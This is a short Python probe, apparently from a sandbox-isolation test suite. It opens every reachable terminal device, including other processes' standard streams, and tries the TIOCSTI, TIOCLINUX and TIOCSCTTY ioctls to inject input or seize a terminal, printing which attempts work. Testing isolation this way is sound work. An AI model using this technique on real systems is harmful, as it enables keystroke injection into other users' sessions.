# /// attack
# tries = "types commands into whatever terminal it finds (TIOCSTI, TIOCLINUX), and takes one as its own"
# base = "blank"
# slow = true
# ///
import fcntl
import glob
import os

for path in ["/dev/tty", "/dev/console", "/dev/ptmx", *glob.glob("/dev/pts/*"), *glob.glob("/proc/[0-9]*/fd/[012]")]:
    try:
        number = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        continue
    for call, argument in ((0x5412, b"x"), (0x541C, b"\3"), (0x540E, 1)):
        try:
            fcntl.ioctl(number, call, argument)
            print("WORKED", path, hex(call), flush=True)
        except OSError:
            pass
